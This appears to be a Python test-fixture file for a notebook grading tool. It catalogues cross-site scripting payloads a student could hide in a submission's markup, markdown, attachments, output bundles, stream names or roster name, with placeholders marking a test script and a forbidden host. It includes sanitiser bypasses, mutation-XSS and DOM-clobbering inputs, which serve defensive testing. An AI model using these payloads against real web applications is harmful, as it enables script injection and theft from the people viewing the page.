"""What a student could write to run a script in a marker's browser, by where it is written.

`JS!` stands for the script that tells on itself, `URL!` for a host that must never be asked. A
script pushes its attack's name to `top.pwned` and asks that host; so a test knows which one ran.
"""

# ruff: noqa: E501  # an attack reads best on one line

from __future__ import annotations

MARKUP = {
    "script": "<script>JS!</script>",
    "script-src": "<script src='URL!'></script>",
    "script-in-capitals": "<ScRiPt>JS!</sCrIpT>",
    "script-in-a-script": "<scr<script>ipt>JS!</scr</script>ipt>",
    "script-unclosed": "<script>JS!",
    "script-with-a-slash": "<script/x>JS!</script/x>",
    "script-after-nul": "<scr\x00ipt>JS!</script>",
    "script-module": "<script type='module'>JS!</script>",
    "img-onerror": '<img src=x onerror="JS!">',
    "img-onerror-unclosed": '<img src=x onerror="JS!" x="',
    "img-onerror-backticks": "<img src=`x` onerror=JS! >",
    "img-onerror-by-slashes": '<img/src=x/onerror="JS!">',
    "img-elsewhere": "<img src='URL!'>",
    "img-srcset": "<img srcset='URL! 2x'>",
    "picture-source": "<picture><source srcset='URL!'><img></picture>",
    "svg-onload": '<svg onload="JS!"></svg>',
    "svg-script": "<svg><script>JS!</script></svg>",
    "svg-script-cdata": "<svg><script><![CDATA[JS!]]></script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:JS!'/><text>x</text></a></svg>",
    "svg-use": "<svg><use href='URL!#x'/></svg>",
    "svg-image": "<svg><image href='URL!'/></svg>",
    "svg-foreign-object": '<svg><foreignObject><img src=x onerror="JS!"></foreignObject></svg>',
    "body-onload": '<body onload="JS!">',
    "details-ontoggle": '<details open ontoggle="JS!"><summary>x</summary></details>',
    "video-onerror": '<video src=x onerror="JS!"></video>',
    "video-poster": "<video poster='URL!'></video>",
    "audio-source": "<audio><source src='URL!' onerror=\"JS!\"></audio>",
    "input-autofocus": '<input autofocus onfocus="JS!">',
    "input-image": "<input type=image src='URL!'>",
    "marquee-onstart": '<marquee onstart="JS!">x</marquee>',
    "div-onmouseover": '<div onmouseover="JS!" onclick="JS!">hover</div>',
    "iframe-srcdoc": "<iframe srcdoc='<script>JS!</script>'></iframe>",
    "iframe-javascript": '<iframe src="javascript:JS!"></iframe>',
    "iframe-data": "<iframe src='data:text/html,<script>JS!</script>'></iframe>",
    "iframe-elsewhere": "<iframe src='URL!'></iframe>",
    "object-data": "<object data='data:text/html,<script>JS!</script>'></object>",
    "object-elsewhere": "<object data='URL!'></object>",
    "embed-elsewhere": "<embed src='URL!'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=URL!'>",
    "meta-refresh-data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS!</script>'>",
    "link-stylesheet": "<link rel=stylesheet href='URL!'>",
    "link-prefetch": "<link rel=prefetch href='URL!'><link rel=preload as=image href='URL!'>",
    "style-import": "<style>@import 'URL!';</style>",
    "style-url": "<style>body { background: url(URL!) }</style>",
    "style-attribute": "<p style=\"background: url('URL!'); position: fixed; inset: 0\">over all</p>",
    "table-background": "<table background='URL!'><tr><td background='URL!'>x</td></tr></table>",
    "form-action": "<form action='URL!'><input name=q><button>go</button></form>",
    "button-formaction": '<form><button formaction="javascript:JS!">go</button></form>',
    "base-href": "<base href='URL!'><img src=x>",
    "a-javascript": '<a href="javascript:JS!">x</a>',
    "a-javascript-tab": '<a href="jav&#x09;ascript:JS!">x</a>',
    "a-javascript-entities": '<a href="&#106;avascript&colon;JS!">x</a>',
    "a-javascript-space": '<a href=" \x01javascript:JS!">x</a>',
    "a-data": "<a href='data:text/html,<script>JS!</script>'>x</a>",
    "a-ping": "<a href='https://example.org/' ping='URL!'>x</a>",
    "a-opens-a-config": "<a href='/formgrader/?path=submitted/eve/week6_lab'>x</a>",
    "math-mglyph": '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="JS!">',
    "math-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=\"JS!\"></annotation-xml></math>",
    "math-href": '<math href="javascript:JS!"><mi>x</mi></math>',
    "noscript-title": "<noscript><p title='</noscript><img src=x onerror=\"JS!\">'>",
    "style-title": "<style><a title='</style><img src=x onerror=\"JS!\">'>",
    "svg-style-title": "<svg></p><style><a id='</style><img src=x onerror=\"JS!\">'>",
    "form-in-form": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="JS!">',
    "template": '<template><img src=x onerror="JS!"></template><template shadowrootmode=open><img src=x onerror="JS!"></template>',
    "textarea-ends": '<textarea></textarea><img src=x onerror="JS!"></textarea>',
    "panel-ends": "</div></div></div></body></html><script>JS!</script>",
    "comment-ends": '<!-- --!><img src=x onerror="JS!"> -->',
    "comment-unclosed": '<!-- <img src=x onerror="JS!">',
    "xmp": "<xmp><p title='</xmp><img src=x onerror=\"JS!\">'></xmp>",
    "plaintext": '<plaintext><img src=x onerror="JS!">',
    "cdata": '<![CDATA[<img src=x onerror="JS!">]]>',
    "processing": "<?xml version='1.0'?><img src=x onerror=\"JS!\">",
    "select-mutation": '<select><style></select><img src=x onerror="JS!"></style>',
    "known-handler": "<span onclick=\"toggle_name(true);\"></span><i id='memo-defence' name='MathJax'>x</i>",
    "clobbering": "<form id=submission_id name=base_url><input name=action id=formgrader></form><a id=MathJax></a>",
}
"""Raw HTML, tried in a memo, in an output as HTML and in an output as markdown."""

MARKDOWN = {
    "link-javascript": "[x](javascript:JS!)",
    "link-javascript-upper": "[x](JAVASCRIPT:JS!)",
    "link-javascript-newline": "[x](java\nscript:JS!)",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9WzFdPC9zY3JpcHQ+)",
    "link-by-reference": "[x][r]\n\n[r]: javascript:JS!",
    "link-title": "[x](https://example.org '\"onmouseover=\"JS!')",
    "link-quote": '[x](https://example.org/"onmouseover="JS!)',
    "autolink": "<javascript:JS!>",
    "picture-javascript": "![x](javascript:JS!)",
    "picture-elsewhere": "![x](URL!)",
    "picture-alt": '!["onerror="JS!](data:image/png;base64,AA==)',
    "picture-svg": '![x](data:image/svg+xml,<svg onload="JS!"/>)',
    "fence-language": '```"><img src=x onerror="JS!">\ncode\n```',
    "heading-anchor": '# "><img src=x onerror="JS!">',
    "table-cell": '| a |\n| - |\n| <img src=x onerror="JS!"> |',
    "math-text": '$\\text{<img src=x onerror="JS!">}$',
    "math-href-latex": "$\\href{javascript:JS!}{x}$ $$\\style{background: url(URL!)}{x}$$",
    "math-script": "$$</script><script>JS!</script>$$",
    "math-unicode": '$\\unicode{60}script\\unicode{62}$ \\(<img src=x onerror="JS!">\\)',
    "math-environment": '\\begin{align}<img src=x onerror="JS!">\\end{align}',
    "attachment-kind": "![x](attachment:kind)",
    "attachment-data": "![x](attachment:data)",
    "attachment-svg": "![x](attachment:svg)",
    "attachment-name": '!["><img src=x onerror="JS!">](attachment:"><b>)',
    "details-in-details": '<details><summary><img src=x onerror="JS!"></summary>\n\n<script>JS!</script>\n\n</details>',
}
"""Markdown's own ways, tried in a memo."""

ATTACHMENTS = {
    "kind": {'image/png" onerror="JS!': "AA=="},
    "data": {"image/png": '" onerror="JS!'},
    "svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9InRvcC5wd25lZD1bMV0iLz4="},
    '"><b>': {"text/html": "<script>JS!</script>"},
}

HTML = '<b>seen</b><img src=x onerror="JS!"><script>JS!</script>'
DATA = {
    "html-table": {"text/html": f"<table><tr><td>{HTML}</td></tr></table>"},
    "svg": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"JS!\"><script>JS!</script></svg>"
    },
    "javascript": {"application/javascript": "JS!", "text/javascript": "JS!"},
    "latex": {"text/latex": f"$${HTML}$$ $\\href{{javascript:JS!}}{{x}}$"},
    "markdown": {"text/markdown": f"[x](javascript:JS!) {HTML}"},
    "json": {"application/json": {"a": HTML}},
    "pdf": {"application/pdf": "JVBERi0xLjQK"},
    "mermaid": {"text/vnd.mermaid": f"graph TD; A[{HTML}]"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS!</script>"}
    },
    "plotly": {"application/vnd.plotly.v1+json": {"data": [HTML]}, "text/html": HTML},
    "png": {"image/png": '"><script>JS!</script><img src="'},
    "jpeg": {"image/jpeg": ['" onerror="', "JS!"]},
    "gif": {"image/gif": 'R0lGODlhAQABAAAAACw=" onerror="JS!'},
    "plain": {"text/plain": f"\x1b[31m{HTML}\x1b[0m\x1b]8;;javascript:JS!\x1b\\x\x1b]8;;\x1b\\"},
    "kind": {f'text/html">{HTML}': HTML},
    "list": {"text/html": ["<scr", "ipt>JS!</scr", "ipt>"]},
    "number": {"text/plain": 3, "text/html": {"a": 1}},
}
"""Outputs as a bundle of kinds."""

TEXT = f'{HTML} \x1b[31m{HTML}\x1b[0m \x1b[1;38;5;"><script>JS!</script>m'
STREAMS = {"stdout": TEXT, "stderr": TEXT, f'x">{HTML}': TEXT}
"""A stream's name -> its text."""

NAME = '<img src=x onerror="JS!">'
"""A person's name, where a roster lets people choose it."""
